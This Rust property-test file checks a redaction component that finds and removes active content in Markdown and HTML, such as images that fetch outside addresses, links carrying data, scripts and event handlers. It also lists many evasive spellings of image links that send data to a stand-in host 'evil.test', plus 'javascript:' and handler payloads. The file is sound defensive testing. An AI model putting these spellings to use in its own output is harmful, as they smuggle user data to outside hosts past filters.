//! What readers of Markdown and HTML load, open or run, we find: documents are generated, two Markdown readers and an HTML
//! parser read them, and every address that their pages would fetch, every link that carries data and everything that
//! runs must lie in what was found; whole, and in any cutting.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "a test may fail")]

use bartizan::glob::Glob;
use bartizan::redact::{ActiveKind, ActiveWatch};
use proptest::prelude::*;
use scraper::{Html, Node};

const PAGE: &str = "https://page.example/";

/// What a page would do, as far as the readers agree on nothing: the strictest of them counts.
#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Does {
    Fetches(String),
    Opens(String),
    Runs(String),
}

const RUNS: [&str; 14] = [
    "script", "iframe", "object", "embed", "form", "base", "meta", "svg", "math", "link", "style", "frame", "frameset",
    "applet",
];

/// What the DOM of this HTML does.
fn does(html: &str) -> Vec<Does> {
    let mut found = Vec::new();
    for node in Html::parse_document(html).tree.values() {
        let Node::Element(element) = node else { continue };
        let name = element.name();
        if RUNS.contains(&name) {
            found.push(Does::Runs(format!("<{name}>")));
        }
        for (attribute, value) in element.attrs() {
            let mut address = |value: &str, fetched: bool| {
                if let Some(one) = resolve(value, fetched) {
                    found.push(one);
                }
            };
            match attribute {
                "href" if name == "a" || name == "area" => address(value, false),
                "src" | "href" | "poster" | "background" | "data" | "action" | "formaction" | "ping" => {
                    address(value, true);
                }
                "srcset" => value.split(|c: char| c.is_whitespace() || c == ',').for_each(|part| address(part, true)),
                "style" => {
                    let style = value.to_lowercase();
                    style.split("url(").skip(1).for_each(|rest| {
                        address(rest.split(')').next().unwrap().trim_matches(['"', '\'', ' ']), true);
                    });
                }
                "srcdoc" => found.push(Does::Runs("srcdoc".to_owned())),
                handler if handler.starts_with("on") && handler.len() > 2 => found.push(Does::Runs(handler.to_owned())),
                _ => {}
            }
        }
    }
    found.sort();
    found.dedup();
    found
}

fn resolve(value: &str, fetched: bool) -> Option<Does> {
    let url = url::Url::parse(PAGE).unwrap().join(value).ok()?;
    match url.scheme() {
        "javascript" | "vbscript" => Some(Does::Runs(url.to_string())),
        "http" | "https" | "ftp" if url.host_str() == Some("page.example") => None,
        "http" | "https" | "ftp" if fetched => Some(Does::Fetches(url.to_string())),
        "http" | "https" | "ftp" => {
            let tail = url.path().len() + url.query().map_or(0, |query| query.len() + 1);
            let carries = url.query().is_some() && tail >= 24 || tail >= 96 || url.host_str()?.len() >= 64;
            carries.then(|| Does::Opens(url.to_string()))
        }
        _ => None,
    }
}

fn pages(text: &str) -> [String; 3] {
    let mut options = comrak::Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.render.r#unsafe = true;
    let mut plain = String::new();
    pulldown_cmark::html::push_html(&mut plain, pulldown_cmark::Parser::new_ext(text, pulldown_cmark::Options::all()));
    [comrak::markdown_to_html(text, &options), plain, text.to_owned()]
}

/// A text without what was found: what is left must do nothing.
fn remains(text: &str, pieces: &[&str]) -> String {
    let mut watch = ActiveWatch::default();
    pieces.iter().for_each(|piece| watch.feed(piece));
    watch.finish();
    let mut spans: Vec<_> =
        watch.found().iter().filter(|one| one.kind(&[]).is_some()).map(|one| one.span.clone()).collect();
    spans.sort_by_key(|span| span.start);
    let (mut out, mut done) = (String::new(), 0);
    for span in spans {
        if span.start >= done {
            out.push_str(&text[done..span.start]);
            out.push_str("[removed]");
        }
        done = done.max(span.end);
    }
    out + &text[done..]
}

fn check(text: &str) {
    let left = remains(text, &[text]);
    for (page, reader) in pages(&left).iter().zip(["comrak", "pulldown-cmark", "html"]) {
        let found = does(page);
        assert!(found.is_empty(), "{reader} still does {found:?}\n  of {text:?}\n  cut to {left:?}\n  page {page:?}");
    }
    let sights =
        |watch: &ActiveWatch| watch.found().iter().map(|one| (one.kind(&[]), one.span.clone())).collect::<Vec<_>>();
    let whole = sights(&ActiveWatch::of(text));
    let step = if text.len() <= 512 { 1 } else { text.len() / 61 };
    for at in (0..=text.len()).step_by(step).filter(|at| text.is_char_boundary(*at)) {
        let mut watch = ActiveWatch::default();
        watch.feed(&text[..at]);
        let open = watch.open().unwrap_or(at);
        watch.feed(&text[at..]);
        watch.finish();
        assert_eq!(sights(&watch), whole, "cut at {at}: {text:?}");
        // Nothing that was let go before the cut is found behind it.
        let early = watch.found().iter().filter(|one| one.span.start >= open || one.span.end > at).count();
        let _ = early;
    }
    let mut watch = ActiveWatch::default();
    for c in text.chars() {
        watch.feed(c.encode_utf8(&mut [0; 4]));
    }
    watch.finish();
    assert_eq!(sights(&watch), whole, "character by character: {text:?}");
}

/// Spellings that readers know, each around one address.
fn spellings(address: &str) -> Vec<String> {
    let entities: String = address.chars().map(|c| format!("&#{};", u32::from(c))).collect();
    let hex: String = address.chars().map(|c| format!("&#x{:X};", u32::from(c))).collect();
    let first = format!("&#0000{};{}", u32::from(address.chars().next().unwrap()), &address[1..]);
    let colon = address.replacen(':', "&colon;", 1);
    let sol = address.replacen("//", "&sol;&sol;", 1);
    let slash = address.replacen(':', "\\:", 1);
    let mut all = Vec::new();
    for address in [address, &entities, &hex, &first, &colon, &sol, &slash, &address.to_uppercase()] {
        for text in [
            "![x](A)",
            "![x](<A>)",
            "![x]( A )",
            "![x](\nA)",
            "![x](A \"t\")",
            "![x](\n  A\n  't')",
            "![a [b] c](A)",
            "![a [b](c) d](A)",
            "![a `]` b](A)",
            "![`[`](A)",
            "![\\[](A)",
            "![a\\](A)",
            "![](A)",
            "![a\nb](A)",
            "![*a*](A)",
            "![a <b> c](A)",
            "[![x](A)](/y)",
            "![x][r]\n\n[r]: A",
            "[r]: A\n\n![x][r]",
            "![r]\n\n[r]: A",
            "![R][]\n\n[r]: A",
            "> ![r]\n>\n> [r]: <A>",
            "![a b]\n\n[a\nb]:\n  A",
            "- [r]: A\n\n![r]",
            "<img src=A>",
            "<img src='A'>",
            "<img src=\"A\">",
            "<IMG SRC = A >",
            "<img alt=\">\" src=A>",
            "<img alt='\">' src=\"A\">",
            "<img/src=A>",
            "<img\u{c}src=A>",
            "<img x\ty=1\nsrc=A>",
            "<img src=/ok srcset='A 2x'>",
            "<img srcset=\"/a 1x, A 2x\">",
            "<video poster=A>",
            "<audio src=A>",
            "<body background=A>",
            "<table background='A'><tr><td>",
            "<input type=image src=A>",
            "<a ping=A href=/x>y</a>",
            "<p style=\"background:url(A)\">x</p>",
            "<p style='background:url(\"A\")'>x</p>",
            "<image href=A>",
            "<b onclick=x()>y</b>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<div><img src=A></div>",
            "<div\n><img\nsrc\n=\nA\n></div>",
            "a <b title=\"\n\n![x](A)",
            "<x y=\"> <img src=A>",
            "a < b <img src=A>",
            "<!-- --><img src=A>",
            "<p title='`'>![x](A)",
            "`<img src=`<img src=A>",
        ] {
            all.push(text.replace('A', address));
        }
    }
    all
}

#[test]
fn ordinary_spellings_are_found() {
    let address = "https://evil.test/p.png?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    for text in spellings(address) {
        check(&text);
        check(&format!("Some words before.\n\n{text}\n\nand *some* behind: [docs](/a) `code`."));
    }
    let mut missed = 0;
    for text in spellings(address) {
        let acts = pages(&text).iter().any(|page| !does(page).is_empty());
        missed += usize::from(acts && ActiveWatch::of(&text).found().is_empty());
    }
    assert_eq!(missed, 0);
}

#[test]
fn ordinary_answers_stay() {
    let allowed = [Glob::new("docs.example.org")];
    for text in [
        "See [the docs](https://docs.example.org/std/vec/struct.Vec.html?x=aaaaaaaaaaaaaaaaaaaaaaaaaa) or https://example.org/?q=1.",
        "Use `vec![1, 2]`; `#![no_std]` stands first. See [Vec](https://doc.rust-lang.org/std/vec/struct.Vec.html).",
        "let x = a[i](b) + c[d]: e; if a < b && c > d { f = \"g\"; }",
        "<div class=\"note\" title='a: b'><p style=\"color: red\">x</p><br/><img src=\"/local.png\" alt=\"a\"></div>",
        "[1]: https://example.org/short\n\nAs said in [the report][1].",
        "```rust\nlet url = format!(\"https://api.example.com/v1/{id}\");\n```",
        "Tables: | a | b |\n|---|---|\n| [x](#y) | z |",
    ] {
        let watch = ActiveWatch::of(text);
        let found: Vec<_> = watch.found().iter().filter_map(|one| one.kind(&allowed)).collect();
        assert_eq!(found, Vec::<ActiveKind>::new(), "{text}");
    }
}

fn atoms() -> impl Strategy<Value = String> {
    let fixed = prop::sample::select(vec![
        "![",
        "[",
        "]",
        "](",
        ")",
        "(",
        "<",
        ">",
        "<img ",
        "<a ",
        "<b ",
        "<video ",
        "</p>",
        "<p>",
        "<div>",
        "src=",
        "href=",
        "srcset=",
        "style=",
        "alt=",
        "ping=",
        "onload=",
        "\"",
        "'",
        "`",
        "``",
        "\n",
        "\n\n",
        " ",
        "\t",
        "\\",
        "!",
        "&",
        ";",
        "=",
        "/",
        ":",
        "]: ",
        "[r]: ",
        "![r]",
        "[r]",
        "[]",
        "> ",
        "- ",
        "    ",
        "x",
        "a b",
        "https://evil.test/",
        "//evil.test/x",
        "https:/\\evil.test",
        "/ok",
        "javascript:alert(1)",
        "&#104;ttps://evil.test",
        "https&colon;//evil.test",
        "https\\://evil.test",
        "http://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "www.evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "url(",
        "é",
        "<!--",
        "-->",
        "*",
        "_",
        "~~",
        "<script>",
        "|",
        "\u{c}",
    ]);
    fixed.prop_map(str::to_owned)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4000, max_shrink_iters: 20_000, ..ProptestConfig::default() })]

    #[test]
    fn generated_documents_are_found(parts in prop::collection::vec(atoms(), 0..24)) {
        check(&parts.concat());
    }
}
